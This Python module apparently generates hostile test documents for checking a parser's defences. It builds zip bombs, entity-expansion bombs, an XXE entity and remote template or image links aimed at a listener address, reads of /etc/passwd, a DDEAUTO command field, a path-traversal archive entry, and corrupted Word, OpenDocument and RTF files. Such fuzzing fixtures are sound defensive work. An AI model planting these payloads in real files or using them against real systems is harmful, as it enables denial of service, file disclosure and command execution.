"""Hostile Word, OpenDocument and RTF files: archives that unfold, links that lead out, text without end."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

Maker = Callable[[random.Random], bytes]

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = (
    f'<Types xmlns="{_PACKAGE}/content-types"><Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override '
    'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


_SAID = _paragraph("Pupils practised reading every morning and attainment rose by nine points.")


def _rels(*links: tuple[str, str, bool]) -> str:
    """A part of relations: (kind, target, whether it lies outside)."""
    rows = "".join(
        f'<Relationship Id="r{n}" Type="{_OFFICE}/{kind}" Target="{target}"'
        f"{' TargetMode=' + chr(34) + 'External' + chr(34) if outside else ''}/>"
        for n, (kind, target, outside) in enumerate(links)
    )
    return f'<Relationships xmlns="{_PACKAGE}/relationships">{rows}</Relationships>'


def _archive(parts: Mapping[str, str | bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return target.getvalue()


def docx(body: str = _SAID, *, head: str = "", parts: Mapping[str, str | bytes] | None = None) -> bytes:
    """A Word file with this body; `head` stands before its root, `parts` are added."""
    document = f'<?xml version="1.0"?>{head}<w:document {_W} {_R}><w:body>{body}</w:body></w:document>'
    return _archive(
        {
            "[Content_Types].xml": _TYPES,
            "_rels/.rels": _rels(("officeDocument", "word/document.xml", False)),
            "word/document.xml": document,
            **(parts or {}),
        }
    )


def odt(body: str, more: Mapping[str, str | bytes] | None = None) -> bytes:
    """An OpenDocument text with this body."""
    spaces = " ".join(
        f'xmlns:{p}="urn:oasis:names:tc:opendocument:xmlns:{n}:1.0"'
        for p, n in (("office", "office"), ("text", "text"), ("draw", "drawing"), ("table", "table"))
    )
    content = (
        f'<office:document-content {spaces} xmlns:xlink="http://www.w3.org/1999/xlink">'
        f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
    )
    kind = "application/vnd.oasis.opendocument.text"
    entry = '<manifest:file-entry manifest:full-path="{}" manifest:media-type="{}"/>'
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        f"{entry.format('/', kind)}{entry.format('content.xml', 'text/xml')}</manifest:manifest>"
    )
    parts = {"mimetype": kind, "META-INF/manifest.xml": manifest, "content.xml": content}
    return _archive({**parts, **(more or {})})


def word_files(listener: str) -> dict[str, tuple[str, Maker]]:
    """Every kind of hostile Word file by name, with its ending. `listener`: an address that nobody is to ask."""
    return {**_bombs(), **_links(listener), **_shapes(), **_broken(), **_others(listener)}


def _bombs() -> dict[str, tuple[str, Maker]]:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    lol = f'<!DOCTYPE w:document [<!ENTITY e0 "lol">{entities}]>'
    square = f'<!DOCTYPE w:document [<!ENTITY a "{"a" * 100_000}">]>'
    return {
        "a part that unfolds": (".docx", lambda r: docx(_SAID + _paragraph(" " * 400_000_000))),
        "a part beside that unfolds": (
            ".docx",
            lambda r: docx(parts={"word/media/x.bmp": bytes(1_500_000_000)}),
        ),
        "very many parts": (".docx", lambda r: docx(parts={f"word/p{n}.xml": "" for n in range(60_000)})),
        "parts that overlap": (".docx", lambda r: _overlapping(3000, 20_000_000)),
        "a part that lies of its size": (
            ".docx",
            lambda r: _lying(docx(_SAID + _paragraph(" " * 300_000_000))),
        ),
        "entities of entities": (".docx", lambda r: docx(_paragraph("&e11;"), head=lol)),
        "a long entity often": (".docx", lambda r: docx(_paragraph("&a;" * 100_000), head=square)),
        "an archive in an archive": (
            ".docx",
            lambda r: _archive({"word/document.xml": docx(), "x.docx": docx()}),
        ),
    }


def _overlapping(count: int, size: int) -> bytes:
    """An archive whose names all mean the same bytes."""
    name, packed = b"word/document.xml", zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packed.compress(bytes(size)) + packed.flush()
    crc = zlib.crc32(bytes(size))
    said = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, crc, len(data), size, len(name), 0)
    made = b"PK\3\4" + said + name + data
    entry = struct.pack(
        "<HHHHHHIIIHHHHHII", 20, 20, 0, 8, 0, 33, crc, len(data), size, len(name), 0, 0, 0, 0, 0, 0
    )
    directory = (b"PK\1\2" + entry + name) * count
    end = struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), len(made), 0)
    return made + directory + b"PK\5\6" + end


def _lying(content: bytes) -> bytes:
    """The archive with every part said to be of ten bytes, in its directory and before the parts."""
    made = bytearray(content)
    for mark, at in ((b"PK\1\2", 24), (b"PK\3\4", 22)):
        place = made.find(mark)
        while place >= 0:
            made[place + at : place + at + 4] = struct.pack("<I", 10)
            place = made.find(mark, place + 4)
    return bytes(made)


def _links(listener: str) -> dict[str, tuple[str, Maker]]:
    relations = "word/_rels/document.xml.rels"
    picture = (
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:99pt;height:99pt">'
        '<v:imagedata r:id="r0"/></v:shape></w:pict></w:r></w:p>'
    )

    def field(said: str) -> Maker:
        code = f'<w:p><w:fldSimple w:instr="{said}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
        return lambda r: docx(_SAID + code)

    def outside(kind: str, target: str, body: str) -> Maker:
        return lambda r: docx(_SAID + body, parts={relations: _rels((kind, target, True))})

    system = f'<!DOCTYPE w:document [<!ENTITY x SYSTEM "{listener}/entity">]>'
    return {
        "a picture from elsewhere": (".docx", outside("image", f"{listener}/picture.png", picture)),
        "a picture of this machine": (".docx", outside("image", "file:///etc/passwd", picture)),
        "a template from elsewhere": (".docx", outside("attachedTemplate", f"{listener}/template.dotx", "")),
        "a part from elsewhere": (
            ".docx",
            outside("aFChunk", f"{listener}/chunk.html", '<w:altChunk r:id="r0"/>'),
        ),
        "an object from elsewhere": (".docx", outside("oleObject", f"{listener}/object", "")),
        "an entity from elsewhere": (".docx", lambda r: docx(_paragraph("&x;"), head=system)),
        "a field that includes a picture": (
            ".docx",
            field(f"INCLUDEPICTURE &quot;{listener}/field.png&quot;"),
        ),
        "a field that includes a text": (".docx", field("INCLUDETEXT &quot;/etc/passwd&quot;")),
        "a field that runs a program": (".docx", field("DDEAUTO cmd &quot;/c calc&quot;")),
        "parts that lead out": (".docx", lambda r: docx(parts={"../../../../tmp/hostile.txt": "out"})),
    }


def _shapes() -> dict[str, tuple[str, Maker]]:
    def nested(depth: int) -> str:
        cell = "<w:tbl><w:tr><w:tc>"
        return cell * depth + _SAID + "<w:p/></w:tc></w:tr></w:tbl>" * depth

    row = "<w:tr>" + "<w:tc><w:p/></w:tc>" * 60 + "</w:tr>"
    return {
        "tables in tables": (".docx", lambda r: docx(nested(r.choice((30, 300))))),
        "tables in tables without end": (".docx", lambda r: docx(nested(20_000))),
        "a table without end": (".docx", lambda r: docx(_SAID + f"<w:tbl>{row * 3000}</w:tbl>")),
        "paragraphs without end": (".docx", lambda r: docx(_SAID * 200_000)),
        "one word without end": (".docx", lambda r: docx(_paragraph("a" * 5_000_000))),
        "breaks without end": (".docx", lambda r: docx('<w:p><w:r><w:br w:type="page"/></w:r></w:p>' * 20_000)),
        "letters beyond size": (".docx", lambda r: docx(
            '<w:p><w:r><w:rPr><w:sz w:val="99999999"/></w:rPr><w:t>hurt</w:t></w:r></w:p>' * 50)),
    }  # fmt: skip


def _broken() -> dict[str, tuple[str, Maker]]:
    def cut(r: random.Random) -> bytes:
        made = docx(_SAID * 100)
        return made[: r.randrange(4, len(made))]

    def noise(r: random.Random) -> bytes:
        made = bytearray(docx(_SAID * 100))
        for _ in range(30):
            made[r.randrange(4, len(made))] = r.randrange(256)
        return bytes(made)

    return {
        "a Word file cut off": (".docx", cut),
        "a Word file with noise": (".docx", noise),
        "a Word file that is none": (".docx", lambda r: b"PK\5\6" + bytes(18)),
        "a Word file that is a PDF": (".docx", lambda r: b"%PDF-1.7 is what I am"),
        "a Word file that is a page": (".doc", lambda r: b"<html>word</html>"),
        "an old Word file of rubbish": (".doc", lambda r: _OLE + r.randbytes(20_000)),
        "an old Word file of noughts": (".doc", lambda r: _OLE + bytes(2_000_000)),
    }


def _others(listener: str) -> dict[str, tuple[str, Maker]]:
    linked = f'<text:p><draw:frame><draw:image xlink:href="{listener}/odt.png"/></draw:frame>Words of a report.</text:p>'
    section = f'<text:section text:name="a"><text:section-source xlink:href="{listener}/section.odt"/></text:section>'
    return {
        "an OpenDocument with links": (".odt", lambda r: odt(linked + section)),
        "an OpenDocument that unfolds": (".odt", lambda r: odt("<text:p>" + "a " * 100_000_000 + "</text:p>")),
        "an OpenDocument of spaces": (".odt", lambda r: odt('<text:p>a<text:s text:c="2000000000"/></text:p>')),
        "an OpenDocument of columns": (".odt", lambda r: odt(
            '<table:table><table:table-column table:number-columns-repeated="2000000000"/></table:table>')),
        "RTF of depth": (".rtf", lambda r: b"{\\rtf1 " + b"{" * r.choice((1000, 2_000_000)) + b"deep"),
        "RTF of a long part": (".rtf", lambda r: b"{\\rtf1 Words of a report.{\\pict\\bin2147483647 x}}"),
        "RTF that links": (".rtf", lambda r: b"{\\rtf1 Words.{\\field{\\*\\fldinst INCLUDEPICTURE \"%s/rtf.png\"}}}"
                           % listener.encode()),
        "RTF of rubbish": (".rtf", lambda r: b"{\\rtf1 " + r.randbytes(100_000)),
        "RTF with an object": (".rtf", lambda r: b"{\\rtf1 {\\object\\objemb{\\*\\objdata " + b"41" * 500_000 + b"}} Words.}"),
    }  # fmt: skip
